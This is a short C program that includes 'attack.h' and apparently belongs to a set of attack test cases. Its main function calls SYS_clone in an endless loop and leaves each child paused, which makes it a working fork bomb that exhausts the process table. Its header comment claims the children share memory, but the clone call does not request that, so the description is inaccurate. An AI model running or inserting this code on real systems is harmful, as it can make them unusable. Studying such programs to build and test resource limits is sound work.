// Starts children that share its memory.
// gets: none
#include "attack.h"

int main() {
  for (;;) {
    if (syscall(SYS_clone, SIGCHLD, 0, 0, 0, 0) == 0) pause();
  }
}
